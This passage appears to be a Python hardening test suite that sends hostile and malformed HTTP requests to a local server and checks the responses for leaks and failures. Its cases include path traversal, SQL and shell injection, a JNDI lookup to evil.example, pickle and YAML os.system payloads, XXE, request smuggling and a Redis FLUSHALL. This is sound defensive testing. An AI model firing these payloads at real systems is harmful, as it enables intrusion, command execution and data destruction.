"""What hostile and broken clients send, and what is wrong with the answers they get.

A `Case` is the bytes of one connection. They are sent, the sending side is closed, and everything is read until the
server closes; so no case waits for a deadline unless a server is at fault. `faults_of` judges what came back.
"""

import io
import random
import re
import socket
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from http.client import HTTPException, HTTPResponse
from typing import Any, cast
from urllib.parse import quote

from tests.hardening.served import BASIC, LIST, PASSWORD, SIGNING_SECRET, TOKEN

# Many times what any connection takes; whoever needs longer hangs.
PATIENCE_S = 10.0

COOKIE = "planted-cookie-71aa"
API_KEY = "planted-api-key-d03b"
SECRETS = {
    "token": TOKEN,
    "signature": TOKEN.rpartition(".")[2],
    "basic": BASIC.partition(" ")[2],
    "password": PASSWORD,
    "cookie": COOKIE,
    "api-key": API_KEY,
    "signing-secret": SIGNING_SECRET,
}
MARK = '<hostile mark="1">'
# What is revoked if a request is served that is hidden in another.
HIDDEN_JTI = "600-laptop"


@dataclass(frozen=True)
class Case:
    """`answers` are how many there may be: one request has one answer, noise may have none."""

    name: str
    data: bytes
    answers: tuple[int, ...] = (1,)
    methods: tuple[str, ...] = ("GET",)
    # A request that no server may take for a valid one.
    refused: bool = False


@dataclass(frozen=True)
class Answer:
    status: int
    headers: list[tuple[str, str]]
    body: bytes


class Torn(Exception):
    """What came is not a whole number of answers."""


# --- exchanging and judging --------------------------------------------------------------------------------------


def exchange(port: int, case: Case, patience_s: float = PATIENCE_S) -> bytes | str:
    """All that the server says, or what is wrong with how it went."""
    deadline = time.monotonic() + patience_s
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=patience_s) as connection:
            # Whoever refuses the beginning need not read the rest.
            with suppress(BrokenPipeError, ConnectionResetError):
                connection.sendall(case.data)
            with suppress(OSError):
                connection.shutdown(socket.SHUT_WR)
            received = b""
            while part := connection.recv(1_000_000):
                received += part
                connection.settimeout(max(0.001, deadline - time.monotonic()))
            # A server in this process that computes without end keeps even the time-out from coming.
            return received if time.monotonic() < deadline else "hang"
    except TimeoutError:
        return "hang"
    except ConnectionResetError:
        return "reset"


def answers_in(received: bytes, methods: tuple[str, ...]) -> list[Answer]:
    """The answers, read by the standard library; Torn if they are not whole."""
    answers: list[Answer] = []
    file = io.BytesIO(received)
    while file.tell() < len(received):
        method = methods[min(len(answers), len(methods) - 1)]
        response = HTTPResponse(cast(socket.socket, _Unclosing(file)), method=method)
        try:
            response.begin()
            if response.length is None and not response.chunked and response.status >= 200:
                raise Torn("an answer without a length")
            body = response.read()
        except (HTTPException, ValueError, OSError) as problem:
            raise Torn(type(problem).__name__) from None
        if response.status != 100:
            answers.append(Answer(response.status, response.getheaders(), body))
    return answers


class _Unclosing:
    def __init__(self, file: io.BytesIO) -> None:
        self._file = file

    def makefile(self, mode: str) -> "_Unclosing":
        return self

    def close(self) -> None:
        pass

    def __getattr__(self, name: str) -> Any:
        return getattr(self._file, name)


_TRACES = re.compile(
    rb"Traceback \(most|File \"[^\"]+\", line [0-9]|site-packages|\.py\b| at 0x[0-9a-f]+"
    rb"|\b[A-Z][A-Za-z]+(?:Error|Exception)\b"
)


# What the real server says where it fails; a fake with its defects may say so, and nothing else.
OBSERVED_FAILURE = b'{"err":"error"}'


def faults_of(case: Case, received: bytes | str, *, quirks: bool = False) -> list[str]:
    """What is wrong with what a server did about a case; nothing if it did well.

    With `quirks` it may fail as the real server does.
    """
    if isinstance(received, str):
        return [received]
    faults = [f"{name} told" for name, secret in SECRETS.items() if secret.encode() in received]
    if _TRACES.search(received):
        faults.append("traceback")
    try:
        answers = answers_in(received, case.methods)
    except Torn as torn:
        return [*faults, f"torn answer: {torn}"]
    if len(answers) not in case.answers:
        faults.append(f"{len(answers)} answers")
    for answer in answers:
        faults += _faults_of_answer(case, answer, quirks)
    return faults


def _faults_of_answer(case: Case, answer: Answer, quirks: bool) -> Iterator[str]:
    if answer.status >= 500 and not (quirks and (answer.status, answer.body) == (500, OBSERVED_FAILURE)):
        yield f"status {answer.status}"
    if case.refused and answer.status < 400:
        yield f"status {answer.status} for what must be refused"
    headers = {name.lower(): value for name, value in answer.headers}
    shown_as_page = not headers.get("content-type", "text/plain").startswith(("application/json", "text/plain"))
    if shown_as_page and MARK.encode() in answer.body:
        yield "reflected in a page"
    if "x-injected" in headers or any(MARK in value for value in headers.values()):
        yield "reflected in a header"
    if "evil.example" in headers.get("location", ""):
        yield "redirected"
    if b"40404" in answer.body:
        yield "template evaluated"


def faults(
    port: int, cases: Iterable[Case], patience_s: float = PATIENCE_S, *, quirks: bool = False
) -> dict[str, list[str]]:
    """The faults of a server by the names of the cases that found them."""
    found = ((case, faults_of(case, exchange(port, case, patience_s), quirks=quirks)) for case in cases)
    return {case.name: wrong for case, wrong in found if wrong}


# --- the cases ---------------------------------------------------------------------------------------------------

CREDENTIALS = (f"Authorization: JWT {TOKEN}", f"Cookie: session={COOKIE}", f"X-Api-Key: {API_KEY}")
END = "Connection: close"


def request(
    method: str = "GET",
    target: str | bytes = LIST,
    *headers: str | bytes,
    body: bytes | None = None,
    host: str | None = "127.0.0.1",
    version: str = "HTTP/1.1",
    credentials: tuple[str, ...] = CREDENTIALS,
    close: bool = True,
) -> bytes:
    """The bytes of a request, with Ada's credentials, that asks to close the connection."""
    lines: list[str | bytes] = [b" ".join((method.encode("latin-1"), _octets(target), version.encode("latin-1")))]
    lines += [f"Host: {host}"] if host is not None else []
    lines += [*credentials, *headers]
    lines += [END] if close else []
    lines += [f"Content-Length: {len(body)}"] if body is not None else []
    return b"\r\n".join(map(_octets, [*lines, b"", b""])) + (body or b"")


def _octets(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode("utf-8")


def cases_for(method: str, target: str) -> list[Case]:
    """All cases, aimed at one endpoint."""
    return [
        *_request_lines(method, target),
        *_targets(method, target),
        *_headers(method, target),
        *_framing(method, target),
        *_bodies(method, target),
        *_credentials(method, target),
        *_noise(),
        *_long_and_repetitive(method, target),
    ]


def _request_lines(method: str, target: str) -> Iterator[Case]:
    whole = request(method, target)
    _, _, rest = whole.partition(b"\r\n")

    def line(name: str, first: bytes, *, refused: bool = True, answers: tuple[int, ...] = (1,)) -> Case:
        return Case(f"line-{name}", first + b"\r\n" + rest, answers, (method,), refused)

    m, t = method.encode(), target.encode()
    yield Case("valid", whole, methods=(method,))
    for verb in ("HEAD", "OPTIONS", "POST", "PUT", "PATCH", "TRACE", "PROPFIND", "PURGE", "M-SEARCH", "QUERY"):
        yield Case(f"verb-{verb}", request(verb, target), methods=(verb,))
    for verb in ("get", "GET()", "G\xc3\x89T", "A" * 64, "A" * 9_000, "CONNECT", "\x00", "PRI"):
        yield line(f"verb-{verb[:8]!r}-{len(verb)}", verb.encode("latin-1") + b" " + t + b" HTTP/1.1")
    for version in (
        "HTTP/0.9",
        "HTTP/1",
        "HTTP/1.2",
        "HTTP/2",
        "HTTP/2.0",
        "HTTP/9.9",
        "HTTP/1.1.1",
        "HTTP/11",
        "http/1.1",
    ):
        yield line(f"version-{version}", b" ".join((m, t, version.encode())))
    for version in ("HTP/1.1", "HTTP/1.1a", "HTTP/-1", "HTTP/1.1\x00", "HTTP 1.1", "\xb9", "A" * 9_000):
        yield line(f"version-{version[:9]!r}-{len(version)}", b" ".join((m, t, version.encode("latin-1"))))
    yield line("no-version", m + b" " + t)
    yield line("no-target", m + b" HTTP/1.1")
    yield line("no-method", t + b" HTTP/1.1")
    yield line("words", m + b" " + t + b" HTTP/1.1 more")
    yield line("tabs", b"\t".join((m, t, b"HTTP/1.1")))
    yield line("spaces", b"  ".join((m, t, b"HTTP/1.1")), refused=False)
    yield line("leading-space", b" " + m + b" " + t + b" HTTP/1.1")
    yield line("bare-cr", m + b" " + t + b"\r HTTP/1.1")
    yield line("bare-lf", m + b" " + t + b"\n HTTP/1.1")
    yield line("empty", b"", refused=False, answers=(0, 1))
    yield line("only-space", b"   ")
    yield Case("line-ends-before", b"\r\n\r\n" + whole, methods=(method,))
    yield Case("all-bare-lf", whole.replace(b"\r\n", b"\n"), (0, 1), (method,), refused=True)
    yield Case("all-bare-cr", whole.replace(b"\r\n", b"\r"), (0, 1), (method,), refused=True)


_SEGMENTS = {
    "dots": "../../etc/passwd",
    "encoded-dots": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "double-encoded": "%252e%252e%252f",
    "nul": "%00",
    "nul-suffix": "x%00.html",
    "crlf": "x%0d%0aX-Injected:%201",
    "lf": "x%0aX-Injected:1",
    "half-escape": "%",
    "bad-escape": "%zz",
    "overlong": "%c0%af",
    "surrogate": "%ed%a0%80",
    "not-utf-8": "%ff%fe",
    "utf-8": "%F0%9F%98%80",
    "bidi": "%E2%80%AE",
    "tag": quote(MARK, safe=""),
    "raw-tag": MARK.replace(" ", "%20"),
    "script": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "jinja": "%7B%7B202*200%2B4%7D%7D",
    "format": "%7B0.__class__%7D",
    "percent-format": "%25s%25n%25x",
    "operator": "%7B%22$ne%22:%22%22%7D",
    "operator-brackets": "[$ne]",
    "sql": "'%20OR%201=1--",
    "shell": ";id|id`id`$(id)",
    "jndi": "${jndi:ldap://evil.example/a}",
    "dunder": "__proto__",
    "device": "CON",
    "null": "null",
    "slash": "a%2Fb",
    "backslash": "..%5c..%5c",
    "quotes": "%22%27%60",
    "ansi": "%1b[31mred",
    "24-hex": "f" * 24,
    "24-not-hex": "g" * 24,
    "digits": "9" * 400,
    "long": "a" * 8_000,
    "percent-long": "%41" * 2_500,
    "many": "a/" * 1_500,
    "semicolon": ";jsessionid=1",
    "jwt": TOKEN,
    "jwt-after-word": f"x{TOKEN}",
    "scheme-and-jwt": f"JWT%20{TOKEN}",
    "password-parameter": f"x?password={PASSWORD}",
}
_QUERIES = {
    "page-minus": "page=-1",
    "page-huge": f"page={'9' * 400}",
    "page-float": "page=1e3",
    "page-underscore": "page=1_0",
    "page-digits": "page=%D9%A3",
    "page-hex": "page=0x10",
    "page-inf": "page=Infinity",
    "page-array": "page[]=1&page[$gt]=",
    "page-twice": "page=1&page=2",
    "page-nul": "page=%00",
    "sort-dunder": "sortField=__proto__",
    "sort-where": "sortField=$where",
    "sort-path": "sortField=a.b.c",
    "direction-object": "direction={}",
    "direction-word": "direction=desc",
    "tag": f"sortField={quote(MARK)}",
    "callback": "callback=alert",
    "many": "&".join(f"a{number}=b" for number in range(2_000)),
    "separators": "&" * 6_000,
    "equals": "=" * 6_000,
    "no-name": "=1&=2",
    "half-escapes": "%=%&%z=%z",
    "token": f"token={TOKEN}",
    "two-tokens": f"secret_token={TOKEN}&secret_token={TOKEN}",
    "api-key": f"api_key={API_KEY}",
    "semicolons": f"a=1;password={PASSWORD}",
    "fragment": f"page=0#{TOKEN}",
    "url-in-value": f"next=http://evil.example/?access_token={TOKEN}",
}


def _targets(method: str, target: str) -> Iterator[Case]:
    base = target.rpartition("/")[0]
    for name, segment in _SEGMENTS.items():
        yield Case(f"segment-{name}", request(method, f"{base}/{segment}"), methods=(method,))
    for name, query in _QUERIES.items():
        yield Case(f"query-{name}", request(method, f"{target}?{query}"), methods=(method,))
    others = {
        "root": "/",
        "slashes": f"//{target}",
        "evil-slashes": "//evil.example/..",
        "backslash": "/\\evil.example",
        "absolute": f"http://127.0.0.1{target}",
        "absolute-evil": f"http://evil.example{target}",
        "absolute-user": f"http://ada:{PASSWORD}@127.0.0.1{target}",
        "case": target.upper(),
        "trailing": f"{target}/",
        "unknown": "/v3/unknown",
        "unknown-jwt": f"/v3/{TOKEN}",
        "unknown-tag": f"/v3/{quote(MARK)}",
        "unknown-slash-jwt": f"/v3//{TOKEN}",
        "unknown-slash-tag": f"/v3//{quote(MARK)}",
        "unknown-slash-raw-tag": f"/v3//{MARK.replace(' ', '%20')}",
        "console": "/console?__debugger__=yes&cmd=1",
        "asterisk": "*",
        "dots": f"/v3/../v3{target.removeprefix('/v3')}",
    }
    for name, other in others.items():
        yield Case(f"target-{name}", request(method, other), methods=(method,))
    refused = {
        "bracket": "http://[::1/",
        "port": "http://127.0.0.1:99999/",
        "port-word": "http://127.0.0.1:port/",
        "no-host": "http:///v3",
        "scheme": "file:///etc/passwd",
        "relative": "v3/jwt/history",
        "authority": "127.0.0.1:80",
        "raw-nul": target + "\x00",
        "raw-control": target + "\x01\x7f",
        "raw-space": target + " x",
        "javascript": "javascript:alert(1)",
    }
    for name, other in refused.items():
        yield Case(f"target-{name}", request(method, other), methods=(method,), refused=True)
    yield Case("target-raw-ansi", request(method, target.encode() + b"\x9b31m"), methods=(method,))
    yield Case("target-raw-latin-1", request(method, target.encode() + b"\xe9\xff"), methods=(method,))
    yield Case("target-raw-utf-8", request(method, target + "\N{SNOWMAN}"), methods=(method,))


def _headers(method: str, target: str) -> Iterator[Case]:
    def with_(name: str, *headers: str | bytes, refused: bool = False) -> Case:
        return Case(f"header-{name}", request(method, target, *headers), methods=(method,), refused=refused)

    for name, octets in {
        "space-before-colon": b"X-A : b",
        "leading-space": b" X-A: b",
        "folded": b"X-A: b\r\n c",
        "no-colon": b"X-A",
        "no-name": b": b",
        "bare-cr": b"X-A: b\rX-Injected: 1",
        "bare-lf": b"X-A: b\nX-Injected: 1",
        "nul": b"X-A: b\x00c",
        "control": b"X-A: b\x08",
        "name-nul": b"X\x00A: b",
        "name-latin-1": b"X-\xe9: b",
        "name-bracket": b"X[A]: b",
        "name-quoted": b'"X-A": b',
        "second-host": b"Host: evil.example",
        "same-host": b"Host: 127.0.0.1",
    }.items():
        yield with_(name, octets, refused=True)
    harmless: dict[str, str | bytes] = {
        "underscore": f"Authorization_: JWT {TOKEN}",
        "content_length": "Content_Length: 99",
        "script-name": "Script-Name: /evil",
        "script_name": "SCRIPT_NAME: /evil",
        "proxy": "Proxy: http://evil.example",
        "remote-user": "Remote-User: admin",
        "forwarded": "Forwarded: for=evil.example;host=evil.example;proto=javascript",
        "x-forwarded-host": "X-Forwarded-Host: evil.example",
        "x-forwarded-for": f"X-Forwarded-For: {MARK}",
        "x-original-url": "X-Original-URL: /admin",
        "method-override": "X-HTTP-Method-Override: DELETE",
        "wsgi": "wsgi.url_scheme: javascript",
        "agent-tag": f"User-Agent: {MARK}",
        "agent-jwt": f"User-Agent: {TOKEN}",
        "agent-ansi": b"User-Agent: \x9b31mred",
        "agent-jndi": "User-Agent: ${jndi:ldap://evil.example/a}",
        "referer": f"Referer: http://evil.example/?token={TOKEN}",
        "origin": "Origin: http://evil.example",
        "origin-null": "Origin: null",
        "accept": f"Accept: {'text/html;q=0.9,' * 500}",
        "accept-encoding": "Accept-Encoding: " + "gzip;" * 900,
        "language": "Accept-Language: " + "a-" * 2_000,
        "range": "Range: bytes=" + "0-," * 2_000,
        "if-match": 'If-None-Match: *, "' + "a" * 900,
        "cookie": f"Cookie: {'a=b; ' * 1_000}",
        "cookie-quote": 'Cookie: a="\\' + "\\1" * 2_000,
        "empty": "X-Empty:",
        "colons": "X-Colons::::",
        "latin-1": b"X-A: \xe9\xff\x80",
        "tab": b"X-A: \tb\t",
        "expect": "Expect: 100-continue",
        "expect-other": "Expect: the-unexpected",
        "upgrade": "Upgrade: h2c",
        "websocket": "Upgrade: websocket",
        "te": "TE: trailers, deflate;q=0.5",
        "max-forwards": "Max-Forwards: 0",
        "keep-alive": "Keep-Alive: timeout=99999999999999999999",
        "debugger": "X-Debug: __debugger__",
    }
    for name, header in harmless.items():
        yield with_(name, header)
    yield with_("many", *(f"X-{number}: v" for number in range(900)))
    yield with_("same", *("X-Same: v" for _ in range(1_000)))
    yield with_("too-many", *(f"X-{number}: v" for number in range(3_000)), refused=True)
    yield with_("too-long", f"X-Long: {'a' * 20_000}", refused=True)
    yield with_("name-too-long", f"X{'a' * 20_000}: b", refused=True)
    for name, host in {
        "empty": "",
        "evil": "evil.example",
        "port": "127.0.0.1:99999",
        "user": f"a:{PASSWORD}@b",
    }.items():
        yield Case(f"host-{name}", request(method, target, host=host), methods=(method,))
    yield Case("host-none", request(method, target, host=None), methods=(method,), refused=True)
    yield Case("host-none-1.0", request(method, target, host=None, version="HTTP/1.0"), methods=(method,))
    yield Case("host-latin-1", request(method, target, b"X-A: 1", host="\xff"), methods=(method,))


def _framing(method: str, target: str) -> Iterator[Case]:
    smuggled = request("DELETE", f"{LIST}/{HIDDEN_JTI}")
    chunked = "Transfer-Encoding: chunked"
    end = b"0\r\n\r\n"

    def framed(name: str, *headers: str | bytes, then: bytes, refused: bool = True, verb: str = "POST") -> Case:
        return Case(f"framing-{name}", request(verb, target, *headers) + then, (1,), (verb,), refused)

    yield framed("length-and-chunked", "Content-Length: 5", chunked, then=end + smuggled)
    yield framed("chunked-and-length", chunked, "Content-Length: 5", then=end + smuggled)
    yield framed("no-length-and-chunked", "Content-Length: 0", chunked, then=end + smuggled)
    for coding in (
        "identity", "gzip", "gzip, chunked", "chunked, chunked", "chunked, identity", "xchunked", "chunkedx", "",
        "chunked;a=b", '"chunked"', "\x0bchunked", "chun\tked", ",chunked", "chunked,",
    ):  # fmt: skip
        yield framed(f"coding-{coding!r}", f"Transfer-Encoding: {coding}", then=end + smuggled)
    yield framed("coding-twice", chunked, chunked, then=end + smuggled)
    yield framed("coding-folded", b"Transfer-Encoding:\r\n chunked", then=end + smuggled)
    yield framed("coding-space", "Transfer-Encoding : chunked", then=end + smuggled)
    for length in (
        "+5", "-5", "-0", "0x5", "5.0", "5e0", "5,5", "5 5", "1_0", "", " ", "five", "\u0665", "5\x00", "9" * 20,
        "0" * 5_000, "18446744073709551621", "4294967301",
    ):  # fmt: skip
        yield framed(f"length-{length[:8]!r}", f"Content-Length: {length}", then=b"12345" + smuggled)
    yield framed("length-twice", "Content-Length: 5", "Content-Length: 6", then=b"12345" + smuggled)
    yield framed("length-twice-same", "Content-Length: 5", "Content-Length: 5", then=b"12345" + smuggled)
    yield framed("length-huge", f"Content-Length: {8 << 30}", then=b"{")
    for name, chunks in {
        "prefix": b"0x5\r\n12345\r\n0\r\n\r\n",
        "plus": b"+5\r\n12345\r\n0\r\n\r\n",
        "underscore": b"1_0\r\n1234567890123456\r\n0\r\n\r\n",
        "space": b" 5\r\n12345\r\n0\r\n\r\n",
        "short": b"6\r\n12345\r\n0\r\n\r\n",
        "long": b"4\r\n12345\r\n0\r\n\r\n",
        "overflow": b"fffffffffffffffff\r\n12345\r\n0\r\n\r\n",
        "none": b"\r\n12345\r\n0\r\n\r\n",
        "bare-lf": b"5\n12345\n0\n\n",
        "extension": b"5;" + b"a" * 20_000 + b"\r\n12345\r\n0\r\n\r\n",
        "trailer": b"0\r\n" + b"X-A: b\r\n" * 5_000 + b"\r\n",
        "trailer-framing": b"0\r\nContent-Length: 5\r\n\r\n",
        "no-chunks": smuggled,
        "unfinished": b"5\r\n123",
    }.items():
        yield framed(f"chunk-{name}", chunked, then=chunks)
    for verb in ("GET", "HEAD", "DELETE", "OPTIONS", "POST"):
        data = request(verb, target, f"Content-Length: {len(smuggled)}", close=False) + smuggled
        yield Case(f"framing-body-is-request-{verb}", data, (1,), (verb,))
        data = request(verb, target, chunked, close=False) + b"%x\r\n%b\r\n0\r\n\r\n" % (len(smuggled), smuggled)
        yield Case(f"framing-chunk-is-request-{verb}", data, (1,), (verb,))
    unauthorized = request("POST", target, f"Content-Length: {len(smuggled)}", credentials=(), close=False)
    yield Case("framing-unread-body-of-401", unauthorized + smuggled, (1,), ("POST",), refused=True)
    yield Case("framing-after-close", request(method, target) + smuggled, (1,), (method,))
    yield Case(
        "framing-connect", request("CONNECT", "evil.example:80", close=False) + smuggled, (1,), ("CONNECT",), True
    )
    upgrade = request(method, target, "Upgrade: websocket", "Connection: Upgrade", close=False)
    yield Case("framing-upgrade", upgrade + request(method, target), (1,), (method,), refused=True)
    offered = ("Upgrade: h2c", "Connection: Upgrade", f"Content-Length: {len(smuggled)}")
    yield framed("upgrade-with-a-body", *offered, then=smuggled)
    yield Case("framing-1.0-chunked", request("POST", target, chunked, version="HTTP/1.0") + end, (1,), ("POST",), True)
    kept = request(method, target, close=False)
    yield Case("pipeline", kept * 9 + request(method, target), (10,), (method,))
    yield Case("pipeline-then-bad", kept * 2 + b"\x00\x01\x02\r\n\r\n" + kept, (3,), (method,))
    for name, part in {"line": 9, "headers": -2, "name": -30}.items():
        yield Case(f"unfinished-{name}", kept[:part], (1,), (method,), refused=True)
    yield Case("unfinished-body", request("POST", target, "Content-Length: 99") + b"x", (1,), ("POST",), refused=True)


def _bodies(method: str, target: str) -> Iterator[Case]:
    json = "Content-Type: application/json"
    for name, octets in {
        "null": b"null",
        "text": b'"x"',
        "number": b"1",
        "empty": b"",
        "nan": b'{"a":NaN}',
        "infinity": b"[-Infinity]",
        "big-float": b"[1e999]",
        "big-integer": b"[" + b"9" * 5_000 + b"]",
        "leading-zero": b"[01]",
        "comma": b"[1,]",
        "comment": b"[1/**/]",
        "single-quotes": b"{'a':1}",
        "twice": b'{"a":1,"a":2}',
        "dunder": b'{"__proto__":{"a":1},"__class__":"x","constructor":1}',
        "operator": b'{"$where":"sleep(9000)","$ne":null}',
        "deep-lists": b"[" * 100_000,
        "deep-objects": b'{"a":' * 50_000,
        "deep-and-closed": b"[" * 20_000 + b"]" * 20_000,
        "surrogate": b'["\\ud800"]',
        "nul": b'["\\u0000"]',
        "raw-nul": b'["\x00"]',
        "bom": b"\xef\xbb\xbf{}",
        "utf-16": "{}".encode("utf-16"),
        "utf-32": "{}".encode("utf-32"),
        "not-utf-8": b'["\xff\xfe"]',
        "tag": f'["{MARK}"]'.encode(),
        "secrets": f'{{"password":"{PASSWORD}","token":"{TOKEN}"}}'.encode(),
        "escapes": b'["' + b"\\u0041" * 20_000 + b'"]',
        "pickle": b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00cos\nsystem\n.",
        "yaml": b"!!python/object/apply:os.system [id]",
        "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    }.items():
        yield Case(f"json-{name}", request(method, target, json, body=octets), methods=(method,))
    for name, (content_type, body) in {
        "form": ("application/x-www-form-urlencoded", b"&".join(b"a=%d" % number for number in range(5_000))),
        "multipart": ("multipart/form-data; boundary=b", b"--b\r\n" * 20_000),
        "multipart-long": ("multipart/form-data; boundary=" + "b" * 9_000, b"--b--"),
        "charset": ("application/json; charset=rot13", b"{}"),
        "charset-utf-7": ("application/json; charset=utf-7", b"+AHs-"),
        "text": ("text/plain", b"{}"),
        "tag": (MARK, b"x"),
        "jwt": (f"text/plain; token={TOKEN}", b"x"),
        "none": ("", b"{}"),
        "ansi": ("\x9b31m\u202e", b"x"),
    }.items():
        yield Case(
            f"type-{name}", request(method, target, f"Content-Type: {content_type}", body=body), methods=(method,)
        )
    for coding in ("gzip", "deflate", "br", "zstd", "gzip, gzip"):
        zipped = request(method, target, json, f"Content-Encoding: {coding}", body=b"\x1f\x8b\x08\x00" + b"\x00" * 500)
        yield Case(f"coded-{coding}", zipped, methods=(method,))
    yield Case(
        "body-too-large", request(method, target, json, body=b"[" + b" " * 512_000 + b"]"), (1,), (method,), True
    )


def _credentials(method: str, target: str) -> Iterator[Case]:
    for name, value in {
        "none": "",
        "word": "JWT",
        "bearer": f"Bearer {TOKEN}",
        "bare": TOKEN,
        "twice": f"JWT JWT {TOKEN}",
        "cut": f"JWT {TOKEN[:-2]}",
        "no-signature": f"JWT {TOKEN.rpartition('.')[0]}.",
        "four-parts": f"JWT {TOKEN}.x",
        "five-parts": f"JWT {'.'.join('abcde')}",
        "padding": f"JWT {TOKEN}==",
        "dots": f"JWT {'.' * 9_000}",
        "long": f"JWT {'a' * 12_000}",
        "nul": "JWT \xa0\x85",
        "basic-empty": "Basic",
        "basic-bad": "Basic !!!!",
        "basic-no-colon": "Basic YWRh",
        "basic-nul": "Basic AAAA",
        "basic-not-utf-8": "Basic //79/A==",
        "basic-long": f"Basic {'QUFB' * 3_000}",
        "basic-wrong": "Basic YWRhQGV4YW1wbGUuY29tOndyb25n",
        "digest": 'Digest username="ada", nonce="' + "a" * 900 + '"',
        "negotiate": "Negotiate TlRMTVNTUAAB",
    }.items():
        bad = request(method, target, f"Authorization: {value}", credentials=())
        yield Case(f"credentials-{name}", bad, methods=(method,), refused=True)
    only_cookie = request(method, target, f"Cookie: token={TOKEN}; jwt={TOKEN}", credentials=())
    yield Case("credentials-in-cookie", only_cookie, methods=(method,), refused=True)
    bad_then_good = request(method, target, "Authorization: JWT x", f"Authorization: JWT {TOKEN}", credentials=())
    yield Case("credentials-bad-then-good", bad_then_good, methods=(method,), refused=True)


def _noise() -> Iterator[Case]:
    none_or_one = (0, 1)
    for name, data in {
        "nothing": b"",
        "line-end": b"\r\n",
        "nul": b"\x00" * 64,
        "tls": bytes.fromhex("160301020001000 1fc0303".replace(" ", "")) + b"\x00" * 200,
        "ssh": b"SSH-2.0-OpenSSH_9.6\r\n",
        "smtp": b"EHLO evil.example\r\nMAIL FROM:<a@b>\r\n",
        "ftp": b"USER anonymous\r\nPASS a\r\n",
        "redis": b"*1\r\n$8\r\nFLUSHALL\r\n",
        "memcached": b"stats\r\n",
        "http-2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00",
        "proxy-1": b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + request(),
        "proxy-2": b"\r\n\r\n\x00\r\nQUIT\n" + b"\x21\x11\x00\x0c" + b"\x00" * 12,
        "rtsp": b"OPTIONS rtsp://a RTSP/1.0\r\nCSeq: 1\r\n\r\n",
        "sip": b"INVITE sip:a@b SIP/2.0\r\n\r\n",
        "ldap": bytes.fromhex("300c020101600702010304008000"),
        "mqtt": bytes.fromhex("101000044d5154540402003c000461626364"),
        "dns": bytes.fromhex("001d0001010000010000000000000161076578616d706c650000010001"),
        "java": bytes.fromhex("aced0005"),
        "elf": b"\x7fELF" + b"\x01" * 60,
        "answer": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
        "secret": f"{TOKEN} {PASSWORD}\r\n\r\n".encode(),
        "markup": f"{MARK}\r\n\r\n".encode(),
        "endless-word": b"A" * 100_000,
        "endless-line": b"GET /" + b"a" * 100_000,
        "endless-headers": b"GET / HTTP/1.1\r\n" + b"X-A: b\r\n" * 9_000,
    }.items():
        yield Case(f"noise-{name}", data, none_or_one, ("GET",), refused=True)
    rng = random.Random(20)
    for number in range(20):
        data = bytes(rng.getrandbits(8) for _ in range(rng.choice((1, 16, 200, 3_000))))
        yield Case(f"noise-random-{number}", data, none_or_one, ("GET",), refused=True)


def _long_and_repetitive(method: str, target: str) -> Iterator[Case]:
    """Texts as long as they may be, of the kinds that patterns go over again and again.

    A pattern that takes the square of 15,000 steps takes seconds, and its third power takes days: all of these come in
    one connection, so that even a few hundred milliseconds each would be a hang.
    """
    room = 15_000
    headers = [
        f"Authorization: {'a' * room}",
        f"Authorization: {'a:' * (room // 2)}",
        f"Authorization: JWT {'eyJ' * (room // 3)}",
        f"Authorization: JWT {'eyJ.' * (room // 4)}",
        f"Authorization: Basic {'-_' * (room // 2)}",
        f"Authorization: a{' ' * room}b",
        f"Content-Type: basic{' ' * room}",
        f"Content-Type: {'token ' * (room // 6)}",
    ]
    targets = [
        f"{target}?{'?token' * (room // 6)}",
        f"{target}?{'token' * (room // 5)}",
        f"{target}?{'eyJ' * (room // 3)}",
        f"{target}?{'eyJ&' * (room // 4)}",
        f"{target}?{'a=' * (room // 2)}",
        f"{target}?{'?' * room}",
        f"{LIST}/{'//' * (room // 2)}",
        f"{LIST}/{'basic+' * (room // 6)}",
        f"{LIST}/{'jwt/history/' * (room // 12)}",
        f"{LIST}/{'%41' * (room // 3)}",
        f"/v3/{'a' * room}",
        f"{target}?{'b&' * (room // 2)}",
    ]
    long = [request(method, target, header, credentials=(), close=False) for header in headers]
    long += [request(method, other, credentials=(), close=False) for other in targets]
    yield Case("long", b"".join(long * 2) + request(method, target), (2 * len(long) + 1,), (method,))


def mutations(seed: int, number: int, method: str, target: str) -> Iterator[Case]:
    """Requests with credentials in every part, with a few bytes changed, cut, doubled or moved."""
    rng = random.Random(f"{seed} {method} {target}")
    special = [
        b"\r\n",
        b"\n",
        b"\r",
        b"\x00",
        b" ",
        b"\t",
        b":",
        b"%",
        b"\xff",
        b"?",
        b"//",
        b"..",
        b";",
        b",",
        b'"',
        b"<",
    ]
    special += [b"Transfer-Encoding: chunked\r\n", b"Content-Length: 5\r\n", b"HTTP/1.1", b"\r\n\r\n", MARK.encode()]
    seeds = [
        request(method, f"{target}?secret_token={TOKEN}&page=0"),
        request(method, target, f"X-Token: {TOKEN}", credentials=(f"Authorization: {BASIC}",)),
        request("POST", target, "Content-Type: application/json", body=f'{{"password":"{PASSWORD}"}}'.encode()),
    ]
    for position in range(number):
        data = bytearray(rng.choice(seeds))
        for _ in range(rng.randint(1, 4)):
            _mutate(data, rng, special)
        mutated = bytes(data)
        # Nobody can say how many requests those are, but no more than it has lines that could begin one.
        most = mutated.count(b"HTTP/1.") + 1
        yield Case(f"mutation-{seed}-{position}", mutated, tuple(range(most + 1)), ("GET", "POST", "DELETE"))


def _mutate(data: bytearray, rng: random.Random, special: list[bytes]) -> None:
    def at() -> int:
        return rng.randrange(len(data) + 1)

    def flip() -> None:
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)

    def insert() -> None:
        place = at()
        data[place:place] = rng.choice(special)

    def cut() -> None:
        place = at()
        del data[place : place + rng.randint(1, 20)]

    def double() -> None:
        begin = at()
        data[begin:begin] = data[begin : begin + rng.randint(1, 40)]

    def move() -> None:
        begin = at()
        part = data[begin : begin + rng.randint(1, 40)]
        del data[begin : begin + len(part)]
        place = at()
